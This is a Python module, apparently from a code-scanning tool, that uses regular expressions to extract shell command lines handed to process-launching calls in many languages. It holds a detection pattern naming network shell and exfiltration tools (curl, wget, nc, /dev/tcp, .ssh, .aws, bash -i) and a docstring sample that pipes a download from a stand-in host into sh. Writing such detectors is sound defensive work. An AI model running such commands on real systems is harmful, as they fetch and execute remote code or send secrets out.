"""Shell lines that a program of any language hands over: literals behind a name that starts them.

Nobody reads every language, yet in all of them a program is started alike: a name such as `system`
or `Process.Start`, then the line as one literal or its words as several. Only lines with a word
that can carry harm are told, so that a source of many literals costs one search.

    OS.execute("sh", ["-c", "curl -s x.example | sh"])      ("curl -s x.example | sh",)
    BashOperator(bash_command="make all")                   ()
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import islice
from shlex import join, quote

import re2

from signoff.actions.vocabulary import lazy_re2

MOST = 40  # matches of one pattern
MAX_TEXT = 8_000  # characters around telling words; what comes behind is not read
_SHORT = 2_500
_AROUND = 4  # lines: a call may begin before its line, and go on behind it
MAX_WORDS = 12
# No line without one of these can fetch and run, send a secret or hand a shell out.
_TELLING = lazy_re2(
    r"(?i)\bcurl\b|\bwget\b|\bnc(?:at)?\b|\bsocat\b|/dev/(?:tcp|udp)/|base64|\bxxd\b|\bopenssl\b"
    r"|\.ssh\b|\.aws\b|\.netrc\b|\.env\b|\.gnupg\b|authorized_keys|\bscp\b|\bssh\b|\brsync\b"
    r"|\bnslookup\b|\bdig\b|invoke-webrequest|\biwr\b|\birm\b|downloadstring|-enc\b|\bbash\s+-i\b"
    r"|\btelnet\b|\beval\b|\bpowershell\b|\bmkfifo\b|\bftp\b|\bbitsadmin\b|\bcertutil\b|\bmshta\b"
)
_NAMES = (
    r"(?:[\w$]*(?:system|exec|execute|popen|spawn|shell|subprocess|launch|startapp|runcommand|run_command"
    r"|check_output|check_call|create_process|createprocess|proc_open|passthru|jobstart|termopen)[\w-]*!?"
    r"|\w*processstart\w*|process\.start|processbuilder|process\.run|\bprocess|\bcommand\w*(?:::new)?|\bcmd\w*"
    r"|\bbash(?:_command|operator)?|\bsh|\brun|\bcall|\bwrite18|\bprogram|\w*script|\baction|\bdo)"
)
_TEXT = r"(?:\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*')"
# `name("a", ["b"])`, `name "a"`, `name = "a"`, `name: ["a", "b"]`, `name => "a"`.
_HANDED = lazy_re2(
    rf"(?i){_NAMES}\s*(?:[({{=:,\[]|=>|\bnew\s+\w+|\w+=|@|\$|[$@]?\w+\s*,|cmd\")*\s*[(\[{{]*\s*[brufLR]{{0,2}}"
    rf"({_TEXT}(?:\s*(?:,|[ \t]|\]\s*,|,\s*(?:new\s+)?[\w<>\[\]]*\s*[\[{{(]|\[|\)\s*\.args?\()\s*"
    rf"{_TEXT})*)"
)
# `"line".execute()`, `"line".!`, `` `line` `` behind run, three quotes behind shell or script.
_BEFORE = lazy_re2(rf"({_TEXT})\s*\.\s*(?:execute\s*\(|!|lines?_?!|cmd\b|shellout\b)")
_QUOTED = lazy_re2(
    r"(?i)(?:\brun\s*\(\s*|\bpipeline\s*\(\s*|\bqx|\bsystem\s*\(?\s*|\bsh\s+)`([^`\n]+)`"
    r"|(?:\b(?:shell|script|command|run|sh)\b\s*[:=(]?\s*|<<<\s*)(?:\"\"\"|''')((?s:.+?))(?:\"\"\"|''')"
    r"|\\(?:immediate\\)?write18\s*\{([^}\n]+)\}|%x[({\[]([^)}\]\n]+)[)}\]]"
    r"|(?m:^\s*(?:same|exten)\s*=>?[^\n]*\b(?:try)?system\(([^\n]+)\)\s*$)"
    r"|(?i:<Exec\s[^>]*Command\s*=\s*\"([^\"]+)\")"
    r"|(?m:^\s*(?:!|\\!|:!|shell\s|\.shell\s)\s*([^\n]+)$)"
)
# Julia joins programs by a call: pipeline(`a`, `b`).
_PIPELINE = lazy_re2(r"\bpipeline\s*\(\s*(`[^`\n]+`(?:\s*,\s*`[^`\n]+`)+)")
# A name that starts a program is a text itself: `('system', 'line')`, `app="exec" data="line"`.
_NAMED = lazy_re2(
    r"(?i)[\"'](?:(?:\w+[.:])*(?:system|exec(?:ute|sync)?|shell(?:_?exec)?|passthru|popen|spawn|bash|raw_exec))[\"']"
    rf"(?:\s*,\s*|\s+[\w:-]{{1,30}}\s*=\s*)({_TEXT})"
)
# A start of a process, as the languages call it themselves.
_STARTED = lazy_re2(
    r"(?:subprocess\.\w+|os\.(?:system|popen)|child_process\W{1,4}\w+|\bexecSync|\bspawnSync|ProcessBuilder"
    r"|exec\.Command|Command::new|\bvm\.ffi|\bffi|System\.(?:cmd|shell)|Process\.(?:run|start|Start)|\bshell_exec"
    r"|\bpopen|\bproc_open|\bpassthru|getRuntime\(\)\.exec|Open3\.\w+|Kernel\.\w+|\bsystem|os:cmd|readProcess"
    r"|callCommand|callProcess|Sys\.command)\s*[( ]\s*[\[({]?\s*"
    rf"({_TEXT}(?:\s*(?:,|\[|\]\s*,)\s*\[?\s*{_TEXT})*)"
)
_NUMBERED = lazy_re2(rf"(?m)^\s*(\w+)\[\d+\]\s*=\s*({_TEXT})\s*;?\s*$")
_CODE_TEXT = lazy_re2(rf"(?s:\"{{3}}.*?\"{{3}}|'{{3}}.*?'{{3}})|{_TEXT}|`[^`]*`")
_ONE = lazy_re2(_TEXT)
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ash", "ksh", "busybox"})
_ESCAPED = lazy_re2(r"\\([\"'\\/$`])")


def lines_started(text: str) -> tuple[str, ...]:
    """Return the lines that code starts for certain: by a call of its language, outside of texts.

    In tests a text that looks like a call is a sample, and many a function is called `run`.
    """
    near = _near_telling(text)
    code = _CODE_TEXT.sub(_as_blanks, near)
    found: dict[str, None] = {}
    for match in islice(_STARTED.finditer(near), MOST):
        begin, end = match.start(), match.start(1)
        if code[begin:end] == near[begin:end]:
            words = islice(_ONE.finditer(match.group(1)), MAX_WORDS)
            found[_line([_plain(one.group()) for one in words])] = None
    for name, line in _words_by_number(near):
        if re.search(rf"\b(?:ffi|\w*(?:exec|spawn|start|popen|run)\w*)\(\s*{name}\b", code):
            found[line] = None
    return tuple([line for line in found if _TELLING.search(line)])


def _words_by_number(text: str) -> Iterator[tuple[str, str]]:
    """The lines whose words are put into a list one by one: `c[0] = "sh"; c[1] = "-c"; ...`."""
    lists: dict[str, list[str]] = {}
    for match in islice(_NUMBERED.finditer(text), MOST):
        lists.setdefault(match.group(1), []).append(_plain(match.group(2)))
    for name, words in lists.items():
        yield name, _line(words)


def _as_blanks(match: re2._Match[str]) -> str:
    return " " * len(match.group())


def handed_lines(text: str) -> tuple[str, ...]:
    """Return the shell lines in code of any language that can do harm."""
    near = _near_telling(text)
    if not near:
        return ()
    found = dict.fromkeys(line for line in _handed(near) if _TELLING.search(line))
    return tuple(found)


def joined_lines(text: str) -> tuple[str, ...]:
    """Return all lines that code hands to a shell as one script: what one fetches, another runs."""
    found = list(dict.fromkeys(_handed(text[:MAX_TEXT])))
    return ("\n".join(found),) if len(found) > 1 else ()


def is_too_long(text: str) -> bool:
    """Return whether a text has more dangerous words than `handed_lines` can follow."""
    return len(text) > _SHORT and len(_places(text)) >= MOST


def _near_telling(text: str) -> str:
    """The lines around those with a word that can carry harm, "" if there is none."""
    places = _places(text)
    if not places or len(text) <= _SHORT:
        return text if places else ""
    pieces: list[str] = []
    done = 0
    for place in places:
        if place >= done:
            start, done = _lines_around(text, place, done)
            pieces.append(text[start:done])
    return "".join(pieces)[:MAX_TEXT]


def _places(text: str) -> list[int]:
    return [match.start() for match in islice(_TELLING.finditer(text), MOST)]


def _lines_around(text: str, place: int, done: int) -> tuple[int, int]:
    start, end = place, place
    for _ in range(_AROUND):
        start = max(text.rfind("\n", done, start), done)
        after = text.find("\n", end + 1)
        end = len(text) if after < 0 else after
    return start, min(end, start + MAX_TEXT)


def _handed(text: str) -> Iterator[str]:
    for match in islice(_HANDED.finditer(text), MOST):
        words = islice(_ONE.finditer(match.group(1)), MAX_WORDS)
        yield _line([_plain(one.group()) for one in words])
    for pattern in (_BEFORE, _NAMED):
        for match in islice(pattern.finditer(text), MOST):
            yield _plain(match.group(1))
    for match in islice(_QUOTED.finditer(text), MOST):
        yield next(filter(None, match.groups()), "").strip()
    for match in islice(_PIPELINE.finditer(text), MOST):
        yield " | ".join([piece.strip() for piece in match.group(1).split("`")[1::2]])


def _line(words: list[str]) -> str:
    """The line that words stand for: one is a line, several are a program with its words."""
    name = words[0].rpartition("/")[2].lower()
    if name in _SHELLS and len(words) > 1:
        at = next((n for n, word in enumerate(words) if word in ("-c", "-lc", "-ic", "-ec")), 0)
        # The words behind the program may stand in one literal, as C# takes them.
        return words[at + 1] if 0 < at < len(words) - 1 else " ".join(words)
    if name in ("cmd", "cmd.exe") and len(words) > 1:
        return f"cmd.exe /c {quote(' '.join(words[1:]).removeprefix('/c').strip())}"
    # More than a program and its words: the first is a line of its own.
    return words[0] if len(words) == 1 or " " in words[0] else join(words)


def _plain(literal: str) -> str:
    return str(_ESCAPED.sub(r"\1", literal[1:-1]))
